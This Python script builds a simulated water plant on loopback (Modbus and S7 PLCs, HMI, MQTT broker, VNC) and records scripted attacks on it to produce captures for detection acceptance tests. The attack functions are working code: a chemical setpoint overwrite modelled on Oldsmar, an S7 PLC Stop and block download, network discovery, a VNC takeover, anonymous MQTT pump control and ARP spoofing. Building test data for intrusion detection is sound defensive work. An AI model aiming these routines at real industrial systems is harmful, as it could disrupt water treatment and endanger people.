#!/usr/bin/env python3
"""A small water plant of real third-party peers on loopback, and the attacks
recorded against it, driven by capture-attacks.sh. Every host is its own
127.0.1.x address (servers bind to it, clients bind their source address to
it); nothing leaves 127.0.0.0/8.

Hosts:
  127.0.1.10  PLC A   pymodbus Modbus/TCP server, tcp/502, unit 1
  127.0.1.11  PLC B   python-snap7 S7 server, tcp/102, DB1
  127.0.1.12  HMI workstation's VNC server (x11vnc, started by the script)
  127.0.1.20  HMI     pymodbus + python-snap7 clients (polls, operator writes)
  127.0.1.21  sensor  paho-mqtt publisher (user/password)
  127.0.1.22  SCADA   paho-mqtt subscriber to plant/# (user/password)
  127.0.1.30  broker  mosquitto, tcp/1883 (started by the script)
  127.0.1.66  attacker

Usage: attack_plant.py ROLE [ARGS]
  plc-a | plc-b                   servers, run until SIGTERM/SIGINT
  hmi | sensor | scada            normal clients, run until SIGTERM/SIGINT
  arp-legit [ROUNDS [GAP]]        legitimate ARP announcements (scapy, lo)
  florida-setpoint | plc-stop | program-download | discovery-sweep | vnc-session
  | mqtt-anonymous-control | arp-spoof                    one attack, then exit
  manifest DIR                    write DIR/manifest.json (tshark finds the packet numbers)

Written for pymodbus 3.16, python-snap7 3.3, paho-mqtt 2.2, scapy 2.8 and
vncdotool 1.4 (see requirements-attacks.txt).
"""

import asyncio
import random
import signal
import socket
import sys
import threading
import time

PLC_A = "127.0.1.10"
PLC_B = "127.0.1.11"
VNC_HOST = "127.0.1.12"
HMI = "127.0.1.20"
SENSOR = "127.0.1.21"
SCADA = "127.0.1.22"
BROKER = "127.0.1.30"
ATTACKER = "127.0.1.66"

MODBUS_PORT = 502
S7_PORT = 102
MQTT_PORT = 1883
VNC_PORT = 5900

# MQTT accounts in the broker's password file (the script creates it with mosquitto_passwd).
SENSOR_USER, SENSOR_PASS = "sensor-lt01", "Lt01-sens0r"
SCADA_USER, SCADA_PASS = "scada", "Scada-2026"
VNC_PASSWORD = "hmi123"

# Link-layer addresses for the ARP frames (the TCP/IP traffic on lo has all-zero MACs).
MACS = {PLC_A: "02:00:00:00:01:10", PLC_B: "02:00:00:00:01:11", HMI: "02:00:00:00:01:20"}
ATTACKER_MAC = "02:00:00:00:06:66"

SETPOINT_REGISTER = 10


def log(msg: str) -> None:
    print(f"{time.strftime('%H:%M:%S')} {msg}", file=sys.stderr, flush=True)


def stop_event() -> threading.Event:
    done = threading.Event()
    for sig in (signal.SIGINT, signal.SIGTERM):
        signal.signal(sig, lambda *_: done.set())
    return done


def bind_snap7(source: str) -> None:
    """Make python-snap7's client connect from `source` (it has no option for it)."""
    from snap7 import connection

    def tcp_connect(self) -> None:
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.settimeout(self.timeout)
        self.socket.bind((source, 0))
        try:
            self.socket.connect((self.host, self.port))
        except OSError as exc:
            raise connection.S7ConnectionError(f"TCP connection failed: {exc}") from exc

    connection.ISOTCPConnection._tcp_connect = tcp_connect


# ---------------------------------------------------------------------- PLC A
def plc_a() -> int:
    """Water plant PLC: holding registers 0-19 are process values that drift;
    register 10 is the NaOH setpoint (ppm), changed only by writes."""
    from pymodbus import ModbusDeviceIdentification
    from pymodbus.datastore import ModbusDeviceContext, ModbusSequentialDataBlock, ModbusServerContext
    from pymodbus.server import ModbusTcpServer

    base = [412, 380, 718, 95, 21, 640, 1013, 250, 33, 7, 100, 55, 1200, 1180, 64, 3, 480, 499, 12, 1]
    identity = ModbusDeviceIdentification(
        info_name={
            "VendorName": "Skjold Water",
            "ProductCode": "WTP-PLC-A",
            "MajorMinorRevision": "2.4.1",
            "ProductName": "Dosing controller",
            "ModelName": "WTP-A 100",
        }
    )
    device = ModbusDeviceContext(
        hr=ModbusSequentialDataBlock(1, list(base) + [0] * 80),
        ir=ModbusSequentialDataBlock(1, [0] * 100),
        co=ModbusSequentialDataBlock(1, [0] * 100),
        di=ModbusSequentialDataBlock(1, [0] * 100),
    )
    rng = random.Random(10)
    last_drift = [time.monotonic()]

    async def drift(function_code, _start, _address, _count, registers, set_values):
        """pymodbus calls this on every access: the process values move by at most 1
        a second (within base ± 5, never below 0) when they are read."""
        now = time.monotonic()
        if function_code == 3 and set_values is None and now - last_drift[0] >= 1.0:
            last_drift[0] = now
            for i in range(20):
                if i != SETPOINT_REGISTER:
                    step = rng.choice((-1, 0, 0, 1))
                    registers[i] = max(0, base[i] - 5, min(base[i] + 5, registers[i] + step))
        return None

    device.simdevice.action = drift
    context = ModbusServerContext(devices={1: device}, single=False)

    async def run() -> None:
        server = ModbusTcpServer(context, identity=identity, address=(PLC_A, MODBUS_PORT))
        loop = asyncio.get_running_loop()
        for sig in (signal.SIGTERM, signal.SIGINT):
            loop.add_signal_handler(sig, lambda: asyncio.ensure_future(server.shutdown()))
        await server.serve_forever()

    asyncio.run(run())
    return 0


# ---------------------------------------------------------------------- PLC B
def plc_b() -> int:
    import snap7
    from snap7.type import SrvArea

    server = snap7.server.Server(log=False)
    server.host = PLC_B
    db1 = bytearray(32)
    db1[0:8] = b"FILTER-2"
    server.register_area(SrvArea.DB, 1, db1)
    server.start(tcp_port=S7_PORT)
    done = stop_event()
    rng = random.Random(11)
    level = 500
    while not done.wait(1.0):
        level = max(490, min(510, level + rng.choice((-1, 0, 1))))
        db1[8:10] = level.to_bytes(2, "big")  # filter level, drifting
        db1[10:12] = (int(time.time()) & 0xFFFF).to_bytes(2, "big")  # running counter
    server.stop()
    return 0


# ------------------------------------------------------------------------ HMI
def hmi() -> int:
    """Polls PLC A (FC3 0-19 every 0.5 s), PLC B (DB1 every 1 s); now and then
    the operator writes the setpoint (FC6 register 10) within 95..105."""
    import snap7
    from pymodbus.client import ModbusTcpClient

    done = stop_event()
    bind_snap7(HMI)
    rng = random.Random()

    def s7_poll() -> None:
        client = snap7.client.Client()
        client.connect(PLC_B, 0, 1, tcp_port=S7_PORT)
        while not done.wait(1.0):
            client.db_read(1, 0, 16)
        client.disconnect()

    s7 = threading.Thread(target=s7_poll, daemon=True)
    s7.start()
    client = ModbusTcpClient(PLC_A, port=MODBUS_PORT, source_address=(HMI, 0), timeout=2, retries=0)
    if not client.connect():
        log("hmi: cannot connect to PLC A")
        return 1
    polls = 0
    next_write = rng.randint(8, 14)
    while not done.wait(0.5):
        rr = client.read_holding_registers(0, count=20)
        if rr.isError():
            log(f"hmi: read failed: {rr}")
        polls += 1
        if polls == next_write:
            value = rng.randint(95, 105)
            client.write_register(SETPOINT_REGISTER, value)
            log(f"hmi: operator setpoint {value}")
            next_write = polls + rng.randint(16, 24)
    client.close()
    s7.join(timeout=3)
    return 0


# ----------------------------------------------------------------------- MQTT
def mqtt_client(client_id: str, source: str, user: str | None, password: str | None):
    import paho.mqtt.client as mqtt

    client = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=client_id, protocol=mqtt.MQTTv311)
    if user is not None:
        client.username_pw_set(user, password)
    connected = threading.Event()
    client.on_connect = lambda *_: connected.set()
    client.connect(BROKER, MQTT_PORT, keepalive=30, bind_address=source)
    client.loop_start()
    if not connected.wait(5):
        raise RuntimeError(f"{client_id}: no CONNACK")
    return client


def sensor() -> int:
    done = stop_event()
    client = mqtt_client("lt01-sensor", SENSOR, SENSOR_USER, SENSOR_PASS)
    rng = random.Random(21)
    level = 3.42
    while not done.wait(1.0):
        level = round(max(3.30, min(3.55, level + rng.choice((-0.01, 0.0, 0.01)))), 2)
        client.publish("plant/telemetry/level", f"{level:.2f}", qos=0)
    client.disconnect()
    client.loop_stop()
    return 0


def scada() -> int:
    done = stop_event()
    client = mqtt_client("scada-historian", SCADA, SCADA_USER, SCADA_PASS)
    client.on_message = lambda _c, _u, msg: log(f"scada: {msg.topic} = {msg.payload!r}")
    client.subscribe("plant/#", qos=0)
    done.wait()
    client.disconnect()
    client.loop_stop()
    return 0


# ------------------------------------------------------------------------ ARP
def arp_frames(ip: str, mac: str, count: int):
    from scapy.layers.l2 import ARP, Ether

    bcast = "ff:ff:ff:ff:ff:ff"
    return [Ether(src=mac, dst=bcast) / ARP(op=2, hwsrc=mac, psrc=ip, hwdst=bcast, pdst=ip)] * count


def arp_legit(rounds: int = 1, gap: float = 1.0) -> int:
    """Gratuitous ARP replies (announcements): PLC A, PLC B and the HMI in the first round,
    PLC A alone in the ROUNDS-1 later ones, GAP seconds apart."""
    from scapy.sendrecv import sendp

    for n in range(rounds):
        if n:
            time.sleep(gap)
        for ip in (PLC_A, PLC_B, HMI) if n == 0 else (PLC_A,):
            sendp(arp_frames(ip, MACS[ip], 1), iface="lo", verbose=False)
    return 0


def arp_spoof() -> int:
    """30 gratuitous ARP replies '127.0.1.10 is-at 02:00:00:00:06:66' within 5 s."""
    from scapy.sendrecv import sendp

    sendp(arp_frames(PLC_A, ATTACKER_MAC, 30), iface="lo", inter=0.15, verbose=False)
    log("arp-spoof: 30 replies sent")
    return 0


# -------------------------------------------------------------------- attacks
def florida() -> int:
    """Oldsmar 2021: an unseen client sets the NaOH setpoint to 11100 ppm."""
    from pymodbus.client import ModbusTcpClient

    client = ModbusTcpClient(PLC_A, port=MODBUS_PORT, source_address=(ATTACKER, 0), timeout=2, retries=0)
    if not client.connect():
        return 1
    before = client.read_holding_registers(SETPOINT_REGISTER, count=1)
    rr = client.write_register(SETPOINT_REGISTER, 11100)
    after = client.read_holding_registers(SETPOINT_REGISTER, count=1)
    client.close()
    log(f"florida: register 10 {before.registers} -> {after.registers} ({rr})")
    return 1 if rr.isError() or after.registers != [11100] else 0


def s7_attacker():
    import snap7

    bind_snap7(ATTACKER)
    client = snap7.client.Client()
    client.connect(PLC_B, 0, 1, tcp_port=S7_PORT)
    return client


def plc_stop() -> int:
    client = s7_attacker()
    result = client.plc_stop()
    log(f"plc-stop: {result}")
    time.sleep(0.2)
    client.disconnect()
    return 0


def program_download() -> int:
    client = s7_attacker()
    # A new DB1 (the only data block PLC B has; the snap7 server implements DB downloads
    # only, up to the size of the registered area): tag kept, filter values replaced.
    block = bytearray(32)
    block[0:8] = b"FILTER-2"
    block[8:12] = b"\xff\xff\x00\x00"
    block[16:32] = b"EVIL-DB1-PAYLOAD"
    try:
        result = client.download(block, block_num=1)
        log(f"program-download: accepted ({result})")
    except Exception as exc:  # noqa: BLE001 - a refusal is still an attack on the wire
        log(f"program-download: refused: {type(exc).__name__}: {exc}")
    time.sleep(0.2)
    client.disconnect()
    return 0


def discovery_sweep() -> int:
    """TCP connect sweep of 502 and 102 over 127.0.1.1-40, identification of
    what answers (Modbus 43/14, S7 SZL), then unit ids 1-20 on PLC A."""
    import snap7
    from pymodbus.client import ModbusTcpClient

    open_ports = []
    for last in range(1, 41):
        ip = f"127.0.1.{last}"
        for port in (MODBUS_PORT, S7_PORT):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.bind((ATTACKER, 0))
            s.settimeout(0.5)
            try:
                s.connect((ip, port))
                open_ports.append((ip, port))
            except OSError:
                pass
            finally:
                s.close()
    log(f"discovery-sweep: open {open_ports}")
    for ip, port in open_ports:
        if port == MODBUS_PORT:
            client = ModbusTcpClient(ip, port=port, source_address=(ATTACKER, 0), timeout=1, retries=0)
            client.connect()
            info = client.read_device_information(read_code=1, object_id=0)
            log(f"discovery-sweep: {ip} 43/14 {getattr(info, 'information', info)}")
            for unit in range(1, 21):
                rr = client.read_holding_registers(0, count=1, device_id=unit)
                log(f"discovery-sweep: {ip} unit {unit}: {'exception' if rr.isError() else 'answers'}")
            client.close()
        else:
            bind_snap7(ATTACKER)
            client = snap7.client.Client()
            client.connect(ip, 0, 1, tcp_port=port)
            try:
                log(f"discovery-sweep: {ip} SZL 0x001C {client.get_cpu_info()}")
            except Exception as exc:  # noqa: BLE001
                log(f"discovery-sweep: {ip} SZL: {exc}")
            client.disconnect()
    return 0


def vnc_session() -> int:
    """vncdotool (a real RFB client) from the attacker's address, VNC auth."""
    from twisted.internet import reactor
    from twisted.internet.endpoints import HostnameEndpoint
    from vncdotool import api

    def factory_connect(factory, host, port, family) -> None:
        ep = HostnameEndpoint(reactor, host, port, bindAddress=(ATTACKER, 0))
        ep.connect(factory).addErrback(lambda reason: factory.clientConnectionFailed(None, reason))

    api.factory_connect = factory_connect
    client = api.connect(f"{VNC_HOST}::{VNC_PORT}", password=VNC_PASSWORD, timeout=10)
    try:
        client.mouseMove(100, 80)
        client.pause(0.2)
        client.mousePress(1)
        client.pause(0.2)
        client.keyPress("s")
        client.pause(0.2)
        client.keyPress("enter")
        client.pause(0.5)
        log("vnc-session: connected, clicked, typed s + enter")
        client.disconnect()
    finally:
        api.shutdown()
    return 0


def mqtt_anonymous_control() -> int:
    """No username/password: the broker accepts it (allow_anonymous true)."""
    client = mqtt_client("mx-66", ATTACKER, None, None)
    info = client.publish("plant/control/pump1", "OFF", qos=1)
    info.wait_for_publish(5)
    time.sleep(0.3)
    client.disconnect()
    client.loop_stop()
    log("mqtt-anonymous-control: published plant/control/pump1 = OFF")
    return 0


# ------------------------------------------------------------------- manifest
HOSTS = {
    PLC_A: "PLC A: pymodbus Modbus/TCP server, tcp/502, unit 1 (HR 10 = NaOH setpoint, ppm)",
    PLC_B: "PLC B: python-snap7 S7 server, tcp/102, DB1",
    VNC_HOST: "HMI workstation: x11vnc on Xvfb, tcp/5900, VNC password",
    HMI: "HMI: Modbus client of PLC A (FC3 0-19 every 0.5 s, FC6 HR 10 in 95..105), S7 client of PLC B (DB1 every 1 s)",
    SENSOR: "level sensor: MQTT publisher of plant/telemetry/level every 1 s (username/password)",
    SCADA: "SCADA: MQTT subscriber to plant/# (username/password)",
    BROKER: "mosquitto 2.0 broker, tcp/1883, allow_anonymous true and a password file",
    ATTACKER: "attacker (never seen in normal.pcap)",
}

A = f"ip.src=={ATTACKER}"
# name: (victim, protocol, what was done, ATT&CK for ICS techniques, first-packet filter,
#        {label: display filter of the packets that make the attack})
ATTACKS = {
    "florida-setpoint": (
        PLC_A, "modbus",
        "Oldsmar 2021: a client never seen before connects to PLC A, reads HR 10, writes it with "
        "FC6 to 11100 (normal operator writes stay within 95..105), reads it back",
        ["T0855", "T0836"], A,
        {"fc6_write_11100": f"{A} && modbus.func_code==6 && modbus.reference_num==10 && modbus.data==2b:5c",
         "fc6_response": f"ip.dst=={ATTACKER} && modbus.func_code==6",
         "normal_hmi_fc6_writes": f"ip.src=={HMI} && modbus.func_code==6"},
    ),
    "plc-stop": (
        PLC_B, "s7comm",
        "a client never seen before connects to PLC B (COTP, Setup communication) and sends "
        "PLC Stop (function 0x29); the server acknowledges",
        ["T0858", "T0816"], A,
        {"plc_stop_request": f"{A} && s7comm.param.func==0x29",
         "plc_stop_ack": f"ip.dst=={ATTACKER} && s7comm.param.func==0x29"},
    ),
    "program-download": (
        PLC_B, "s7comm",
        "a client never seen before downloads a block (DB1, 32 bytes) to PLC B: Request download "
        "(0x1a), the PLC's Download block (0x1b) and Download ended (0x1c) jobs, all acknowledged",
        ["T0843"], A,
        {"request_download": f"{A} && s7comm.param.func==0x1a",
         "download_sequence": f"ip.addr=={ATTACKER} && s7comm.param.func in {{0x1a,0x1b,0x1c}}"},
    ),
    "discovery-sweep": (
        "127.0.1.1-127.0.1.40", "tcp,modbus,s7comm",
        "TCP connect sweep of ports 502 and 102 over 127.0.1.1-40 (80 SYNs; only 127.0.1.10:502 "
        "and 127.0.1.11:102 accept, the rest answer RST), Modbus 43/14 Read Device Identification "
        "to PLC A, FC3 reads of unit ids 1-20 on PLC A (units 2-20 answer exception 0x04), S7 Read SZL 0x001C "
        "(component identification) on PLC B",
        ["T0846", "T0888"], A,
        {"syn_sweep": f"{A} && tcp.flags.syn==1 && tcp.flags.ack==0",
         "modbus_43_14": f"{A} && modbus.func_code==43",
         "unit_id_reads": f"{A} && modbus.func_code==3",
         "s7_read_szl": f"{A} && s7comm.data.userdata.szl_id"},
    ),
    "vnc-session": (
        VNC_HOST, "vnc",
        "vncdotool from the attacker opens an RFB 3.8 session to the HMI workstation, VNC "
        "authentication (the password is known), ClientInit/ServerInit, SetEncodings, a click "
        "and two key presses, then disconnects (no VNC at all in normal.pcap)",
        ["T0822", "T0823"], A,
        {"vnc_messages": f"ip.addr=={ATTACKER} && vnc",
         "vnc_auth_response": f"{A} && vnc.auth_response"},
    ),
    "mqtt-anonymous-control": (
        BROKER, "mqtt",
        "a client never seen before connects to mosquitto WITHOUT username/password (accepted, "
        "CONNACK 0) and publishes plant/control/pump1 = OFF (QoS 1); the broker forwards it to "
        "the SCADA subscriber",
        ["T0855"], A,
        {"anonymous_connect": f"{A} && mqtt.msgtype==1",
         "connack": f"ip.dst=={ATTACKER} && mqtt.msgtype==2",
         "publish_control": 'mqtt.msgtype==3 && mqtt.topic=="plant/control/pump1"'},
    ),
    "arp-spoof": (
        PLC_A, "arp",
        "after the legitimate owner 02:00:00:00:01:10 announced 127.0.1.10 several times, the "
        "attacker sends 30 gratuitous ARP replies '127.0.1.10 is-at 02:00:00:00:06:66' within 5 s",
        ["T0830"], f"arp.src.hw_mac=={ATTACKER_MAC}",
        {"spoofed_replies": f"arp.src.hw_mac=={ATTACKER_MAC}",
         "legitimate_announcements_of_127.0.1.10": f"arp.src.hw_mac=={MACS[PLC_A]}"},
    ),
}


def frames(pcap: str, display_filter: str) -> list[int]:
    """Numbers (1-based) of the packets of `pcap` that match a tshark display filter."""
    return [int(n) for n in frames_field(pcap, display_filter, "frame.number")]


def frames_field(pcap: str, display_filter: str, field: str) -> list[str]:
    import subprocess

    run = subprocess.run(
        ["tshark", "-r", pcap, "-Y", display_filter, "-T", "fields", "-e", field],
        check=False, capture_output=True, text=True,
    )
    if run.returncode != 0:
        raise SystemExit(f"tshark -r {pcap} -Y '{display_filter}': {run.stderr.strip()}")
    return run.stdout.split()


def manifest(directory: str) -> int:
    """Writes DIRECTORY/manifest.json from the captures (tshark finds the packet numbers)."""
    import json
    import os
    import re

    def info(name: str) -> dict:
        path = os.path.join(directory, f"{name}.pcap")
        times = frames(path, "frame")
        return {"file": f"{name}.pcap", "packets": len(times), "bytes": os.path.getsize(path)}

    normal = info("normal")
    normal.update(
        {
            "attack": None,
            "arp_announcements": frames(os.path.join(directory, "normal.pcap"), "arp"),
            "hmi_fc6_writes": frames(os.path.join(directory, "normal.pcap"), f"ip.src=={HMI} && modbus.func_code==6"),
            "mqtt_connects_with_credentials": frames(
                os.path.join(directory, "normal.pcap"), "mqtt.msgtype==1 && mqtt.conflag.uname==1"
            ),
        }
    )
    attacks = []
    for name, (victim, proto, what, techniques, first, keys) in ATTACKS.items():
        entry = info(name)
        path = os.path.join(directory, entry["file"])
        first_frames = frames(path, first)
        if not first_frames:
            raise SystemExit(f"{name}: no attack packet ({first})")
        entry.update(
            {
                # the spoofed ARP frames carry only the attacker's MAC (they claim PLC A's IP)
                "attacker_ip": None if proto == "arp" else ATTACKER,
                "attacker_mac": ATTACKER_MAC if proto == "arp" else None,
                "victim_ip": victim,
                "protocol": proto,
                "what": what,
                "techniques": techniques,
                "first_attack_packet": first_frames[0],
                "first_attack_time_s": float(
                    frames_field(path, f"frame.number=={first_frames[0]}", "frame.time_relative")[0]
                ),
                "last_attack_packet": first_frames[-1],
                "key_packets": {label: frames(path, f) for label, f in keys.items()},
                "filters": {"first_attack_packet": first, **keys},
            }
        )
        for label, found in entry["key_packets"].items():
            if not found and not label.startswith("normal_"):
                raise SystemExit(f"{name}: no {label} packet ({keys[label]})")
        attacks.append(entry)
    doc = {
        "about": "Scenario captures for Skjold's detection acceptance tests, recorded by "
        "tests/peers/capture-attacks.sh; packet numbers are 1-based (tshark frame.number).",
        "hosts": HOSTS,
        "macs": {**{ip: mac for ip, mac in MACS.items()}, ATTACKER: ATTACKER_MAC},
        "normal": normal,
        "attacks": attacks,
    }
    text = json.dumps(doc, indent=2)
    # lists of packet numbers on one line
    text = re.sub(r"\[\s+([0-9,\s]+?)\s+\]", lambda m: "[" + ", ".join(m.group(1).split()).replace(",,", ",") + "]", text)
    with open(os.path.join(directory, "manifest.json"), "w", encoding="utf-8") as f:
        f.write(text + "\n")
    return 0


ROLES = {
    "plc-a": plc_a,
    "plc-b": plc_b,
    "hmi": hmi,
    "sensor": sensor,
    "scada": scada,
    "florida-setpoint": florida,
    "plc-stop": plc_stop,
    "program-download": program_download,
    "discovery-sweep": discovery_sweep,
    "vnc-session": vnc_session,
    "mqtt-anonymous-control": mqtt_anonymous_control,
    "arp-spoof": arp_spoof,
}

if __name__ == "__main__":
    if len(sys.argv) < 2:
        sys.exit(__doc__)
    role = sys.argv[1]
    if role == "manifest":
        sys.exit(manifest(sys.argv[2]))
    if role == "arp-legit":
        rounds = int(sys.argv[2]) if len(sys.argv) > 2 else 1
        gap = float(sys.argv[3]) if len(sys.argv) > 3 else 1.0
        sys.exit(arp_legit(rounds, gap))
    if role not in ROLES:
        sys.exit(__doc__)
    sys.exit(ROLES[role]())
